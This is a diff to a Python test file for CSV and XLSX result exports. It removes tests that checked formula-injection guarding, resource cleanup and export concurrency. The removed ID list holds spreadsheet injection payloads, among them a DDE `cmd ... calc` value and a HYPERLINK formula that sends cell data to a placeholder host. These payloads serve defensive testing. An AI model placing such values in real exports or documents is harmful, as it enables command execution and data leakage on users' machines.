@@ -1,84 +1,20 @@
 """Results as files: what a table holds, in which language's form, and as what it is asked for."""
 
-import csv
-import io
 import json
-import os
-import tempfile
-import time
-from collections.abc import Iterator
-from contextlib import AsyncExitStack
-from pathlib import Path
 from typing import Any
 
 import pytest
 
-from orchestrator.api import results
 from orchestrator.api.errors import ApiError
-from orchestrator.api.exports.columns import ALL_COLUMNS, COLUMNS, Cell
+from orchestrator.api.exports.columns import ALL_COLUMNS, COLUMNS
 from orchestrator.api.exports.formats import XLSX, find_format
-from orchestrator.api.exports.formulas import guarded
-from orchestrator.api.exports.locales import COMMA, POINT, find_locale
-from orchestrator.api.exports.tables import TABLES, make_table, pieces
+from orchestrator.api.exports.locales import find_locale
 from orchestrator.provenance import columns
-from tests.open_files import open_files
 from tests.orchestrator import workbook
 from tests.orchestrator.client import make_items
-from tests.orchestrator.conftest import Running, Start
-from tests.orchestrator.raw import connected, head
-from tests.small_disk import fill
+from tests.orchestrator.conftest import Start
+from tests.orchestrator.tables import IDS, fetch, read_csv, xlsx_of
 from tests.triton_process import TritonProcess
-
-# As names of students, since those come back as they were sent; the last three are numbers.
-IDS = [
-    "A1;=1+1;",
-    'A2;=HYPERLINK("http://x/?"&A1)',
-    "＝1+1",
-    "\u00a0=1+1",
-    " =1+1",
-    "\u3000\u200b＋1",
-    '"=1+1"',
-    ';"=1+1&"',
-    "a\r\n=1+1",
-    "a\u2028@SUM(1)",
-    "a\t-1+1",
-    "a|=1+1",
-    "a =1+1",
-    "a:=1+1",
-    'a:"-A1',
-    "+1|cmd' /C calc'!A0",
-    "Bé,=cmd|' /C calc'!A0,x",
-    "\ufeff﹦1",
-    "\0=1+1",
-    "\x1f@x",
-    "-12",
-    "+34",
-    "3,5",
-]
-NUMBERS = IDS[-3:]
-SIGNS = "=+-@＝＋－＠﹦﹢﹣﹫"
-
-
-async def fetch(client: Running, path: str, **headers: str) -> tuple[bytes, dict[str, str]]:
-    async with client.session.get(client.base + path, headers=headers) as answer:
-        assert answer.status == 200
-        return await answer.read(), dict(answer.headers)
-
-
-def read_csv(content: bytes, separator: str = ",") -> list[dict[str, str]]:
-    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=separator))
-
-
-def csv_of(texts: list[str], separator: str = ",") -> bytes:
-    locale = COMMA if separator == ";" else POINT
-    rows: list[list[Cell]] = [[index, text, 3, text, 0.5] for index, text in enumerate(texts)]
-    return b"".join(
-        pieces(make_table("csv", ["index", "id", "nota", "feedback", "confidence"], locale), rows)
-    )
-
-
-def xlsx_of(rows: list[list[Cell]], *names: str) -> bytes:
-    return b"".join(pieces(make_table("xlsx", names, POINT), rows))
 
 
 async def test_a_table_can_be_read_anywhere(start: Start, scripted_triton: TritonProcess) -> None:
@@ -170,62 +106,6 @@ def test_what_a_workbook_cannot_hold_is_shown() -> None:
     assert found[5] == "a\nb\nc"
 
 
-@pytest.mark.parametrize("written", [",", ";"])
-@pytest.mark.parametrize("read", [",", ";", "\t", "|", ":", "\n"])
-def test_no_piece_of_a_line_begins_with_a_sign(written: str, read: str) -> None:
-    """Split at each separator by a reader that knows no quotes, no piece is one, whatever is dropped."""
-    lines = csv_of([name for name in IDS if name not in NUMBERS], written).decode("utf-8-sig").splitlines()
-    pieces = [piece for line in lines for piece in line.split(read)]
-    assert len(pieces) > len(IDS)
-    for piece in pieces:
-        first = piece.lstrip('" \u00a0\u3000\u200b\ufeff\t\0\ufffd\x1f')[:1]
-        assert first not in set(SIGNS), piece
-
-
-def test_ids_that_are_numbers_join() -> None:
-    """A number is no formula, so it stays what it is; what is guarded loses its `'` to who wants it back."""
-    found = [row["id"] for row in read_csv(csv_of(IDS))]
-    assert found[-3:] == NUMBERS
-    assert [name.replace("'", "") for name in found] == [
-        name.replace("\0", "\ufffd").replace("'", "") for name in IDS
-    ]
-
-
-@pytest.mark.parametrize(
-    "text",
-    [
-        "Fa -3 graus.",
-        "2+2=4",
-        "un punt - un altre",
-        "anna@escola.cat",
-        "x = 3",
-        "pont-aqüeducte",
-        "",
-        "’=’",
-        "Bé :-) :-D",
-        "1:-3",
-    ],
-)
-def test_ordinary_texts_are_left_alone(text: str) -> None:
-    assert guarded(text) == text
-
-
-@pytest.mark.parametrize(
-    "piece", ["\n", " ", '"', "=", "-", ", ", ';"', "\u200b", "1", " =", "|\u200b", " \t", ":=", ":-a"]
-)
-def test_guarding_takes_linear_time(piece: str) -> None:
-    """Eight times the text takes about eight times as long, whatever it is made of."""
-
-    def seconds(count: int) -> float:
-        text = "x" + piece * count
-        started = time.process_time()
-        guarded(text)
-        return time.process_time() - started
-
-    small = min(seconds(20_000) for _ in range(3))
-    assert min(seconds(160_000) for _ in range(3)) < 40 * small + 0.05
-
-
 @pytest.mark.parametrize(
     ("name", "separator", "decimal"),
     [
@@ -290,91 +170,3 @@ def test_a_provenance_of_another_shape_leaves_cells_empty(model: Any) -> None:
     """What Triton tells is not ours: an export does not fail over it."""
     cells = columns(json.loads(json.dumps({"model": model, "sampling": {"seed": 1}})))
     assert (cells["model"], cells["sampling"]) == (None, '{"seed":1}')
-
-
-@pytest.mark.parametrize("form", ["csv", "xlsx"])
-def test_a_table_grows_in_parts(form: str) -> None:
-    """Rows that come in parts make the same file as all at once; it is given out in small pieces."""
-    rows: list[list[Cell]] = [[index, "é" * 1000] for index in range(500)]
-    whole = b"".join(pieces(make_table(form, ["n", "t"], POINT), rows))
-    table = make_table(form, ["n", "t"], POINT)
-    try:
-        parts = [piece for start in range(0, 500, 70) for piece in table.add(rows[start : start + 70])]
-        parts += table.finish()
-    finally:
-        table.close()
-    if form == "csv":
-        assert b"".join(parts) == whole
-        assert len(parts) > 5
-    else:
-        assert workbook.rows(b"".join(parts)) == workbook.rows(whole)
-
-
-def test_a_workbook_that_is_given_up_leaves_no_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
-    """Texts of students lie in temporary files only while a workbook is made."""
-    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
-
-    def failing() -> Iterator[list[Cell]]:
-        yield ["text"]
-        assert list(tmp_path.iterdir())
-        raise LookupError
-
-    with pytest.raises(LookupError):
-        list(pieces(make_table("xlsx", ["t"], POINT), failing()))
-    assert not list(tmp_path.iterdir())
-
-
-@pytest.mark.parametrize("form", TABLES)
-async def test_no_room_for_a_table_is_said(
-    start: Start, scripted_triton: TritonProcess, small_disk: Path, monkeypatch: pytest.MonkeyPatch, form: str
-) -> None:
-    """Without a folder for it, or on a full disk: 503, nothing stays open, and later it works."""
-
-    def left() -> list[str]:
-        return [name for name in open_files(os.getpid()) if name.startswith(str(folder))]
-
-    folder = small_disk / "temporary"
-    monkeypatch.setattr(tempfile, "tempdir", str(folder))
-    async with start(scripted_triton) as client:
-        job_id = await client.submit(make_items(40))
-        await client.stream(job_id)
-        path = f"/results/{job_id}?format={form}"
-        status, answer, _ = await client.call("GET", path)
-        assert (status, answer["code"]) == (503, "storage_unavailable")
-        folder.mkdir()
-        filler = fill(small_disk)
-        status, answer, _ = await client.call("GET", path)
-        assert (status, answer["code"]) == (503, "storage_unavailable")
-        assert (left(), list(folder.iterdir())) == ([], [])
-        filler.unlink()
-        content, _ = await fetch(client, path)
-        assert len(content) > 100
-        assert (left(), list(folder.iterdir())) == ([], [])
-
-
-async def test_who_left_is_made_no_table(
-    start: Start, scripted_triton: TritonProcess, monkeypatch: pytest.MonkeyPatch
-) -> None:
-    """Those that wait for their turn and go away hold up nobody who stays."""
-    async with start(scripted_triton, max_concurrent_exports=1) as client:
-        job_id = await client.submit(make_items(3))
-        await client.stream(job_id)
-        path = f"/results/{job_id}?format=csv"
-        made = []
-
-        def noted(*arguments: Any) -> Any:
-            made.append(arguments)
-            return make_table(*arguments)
-
-        monkeypatch.setattr(results, "make_table", noted)
-        async with client.service.exports:
-            async with AsyncExitStack() as stack:
-                for _ in range(5):
-                    raw = await stack.enter_async_context(connected(client))
-                    await raw.send(head("GET", path))
-                while client.service.tables._value > client.service.settings.max_open_tables - 5:
-                    await client.call("GET", "/health/live")
-            while "avalua_connections 1.0" not in (await client.call("GET", "/metrics"))[1]:
-                pass
-        await fetch(client, path)
-        assert len(made) == 1
